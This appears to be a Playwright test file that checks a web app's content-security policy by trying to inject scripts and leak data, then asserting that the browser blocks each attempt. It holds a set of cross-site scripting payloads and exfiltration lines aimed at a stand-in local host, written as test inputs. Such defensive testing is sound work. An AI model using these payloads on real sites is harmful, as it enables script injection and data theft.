"""The content-security policy in a real browser: nothing of ours breaks it, nothing else runs."""

import time

import pytest
from playwright.sync_api import Page, expect

from pages.words import KO
from tests.e2e.conftest import Tab
from tests.e2e.writer import Writer
from tests.processes import Server

LISTEN = """
window.broken = [];
document.addEventListener('securitypolicyviolation', (event) => window.broken.push(
  [event.violatedDirective, event.blockedURI, event.sourceFile, event.lineNumber].join(' ')));
"""
PAGES = ["/", "/play", "/library", "/history", "/costs", "/monitor"]
INJECT = {
    "script": "const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
    "document.body.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hit=1>')",
    "address": "const a = document.createElement('a'); a.href = 'javascript:window.hit=1';"
    "document.body.append(a); a.click()",
    "eval": "setTimeout(() => { try { window.eval('window.hit = 1') } catch (error) {} }, 0)",
    "timer": "try { setTimeout('window.hit = 1', 0) } catch (error) {}",
    "foreign script": "const s = document.createElement('script');"
    "s.src = 'http://127.0.0.2:9/x.js'; document.body.append(s)",
    "data script": "const s = document.createElement('script');"
    "s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)",
    "frame": "const f = document.createElement('iframe');"
    "f.srcdoc = '<script>parent.hit=1</script>'; document.body.append(f)",
}
LEAKS = {
    "image": "new Image().src = 'http://127.0.0.2:9/?story'",
    "fetch": "fetch('http://127.0.0.2:9/?story').catch(() => {})",
    "beacon": "navigator.sendBeacon('http://127.0.0.2:9/', 'story')",
    "socket": "try { new WebSocket('ws://127.0.0.2:9/') } catch (error) {}",
    "form": "const f = document.createElement('form'); f.action = 'http://127.0.0.2:9/';"
    "document.body.append(f); f.submit()",
    "style": "document.body.insertAdjacentHTML('beforeend',"
    "'<style>body{background:url(http://127.0.0.2:9/?story)}</style>')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=http://127.0.0.2:9/>')",
}


class Watched:
    """One tab, and every breach of the policy that its pages have told of."""

    def __init__(self, tab: Tab) -> None:
        self.tab, self.page = tab, tab.page
        self._told: list[str] = []
        self.page.add_init_script(LISTEN)
        self.page.on(
            "console",
            lambda said: self._told.append(said.text) if "Security Policy" in said.text else None,
        )

    @property
    def breaches(self) -> list[str]:
        return [*self._told, *self.page.evaluate("window.broken")]

    def await_breach(self) -> None:
        """Asked from outside: what the browser waits for by itself is a string that would run."""
        until = time.monotonic() + 10
        while not self.breaches:
            assert time.monotonic() < until, "nothing was refused"
            self.page.wait_for_timeout(50)


@pytest.fixture
def watched(plain_tab: Tab) -> Watched:
    return Watched(plain_tab)


def test_every_page_an_edit_and_every_file_keep_to_the_policy(watched: Watched) -> None:
    for place in PAGES:
        watched.tab.open(place)
        assert [each[:120] for each in watched.breaches] == [], place

    writer, page = Writer(watched.tab), watched.page
    writer.sample()
    writer.ask("돌고래 쇼를 물개 공연으로 바꿔줘")
    writer.reviewed()
    writer.take_all()
    assert "물개 공연" in writer.download()
    page.get_by_role("button", name=KO.preview).click()
    expect(page.locator(".play .verdict").first).to_be_visible(timeout=15_000)
    watched.tab.idle()
    page.locator('.play [data-key="files"]').click()
    with page.expect_download() as coming:
        page.get_by_role("button", name=KO.preview_pdf).click()
    assert coming.value.path().read_bytes().startswith(b"%PDF")

    assert [each[:120] for each in watched.breaches] == []


def test_what_is_no_page_keeps_to_it(watched: Watched) -> None:
    page = watched.page
    for path in ("/docs", "/openapi.json", "/health", "/metrics", "/edits/none", "/ws/edits/none"):
        page.goto(watched.tab.server.url + path)
        assert watched.breaches == [], path


@pytest.mark.parametrize("way", INJECT)
def test_what_is_put_into_a_page_does_not_run(watched: Watched, way: str) -> None:
    watched.tab.open("/monitor")

    watched.page.evaluate(f"() => {{ {INJECT[way]} }}")
    watched.await_breach()

    assert watched.page.evaluate("window.hit") is None
    # The browser throws where a string would run.
    assert all("Security Policy" in error for error in watched.tab.errors)
    watched.tab.errors.clear()


@pytest.mark.parametrize("way", LEAKS)
def test_nothing_is_sent_elsewhere(watched: Watched, way: str) -> None:
    watched.tab.open("/monitor")

    watched.page.evaluate(f"() => {{ {LEAKS[way]} }}")
    watched.await_breach()

    assert watched.tab.outside == []


def test_no_page_stands_in_a_frame(page: Page, plain_app: Server) -> None:
    with page.expect_console_message(lambda said: "frame" in said.text.lower()):
        page.set_content(f"<iframe src='{plain_app.url}/'></iframe>")

    assert page.frames[1].locator("[data-testid=stApp]").count() == 0
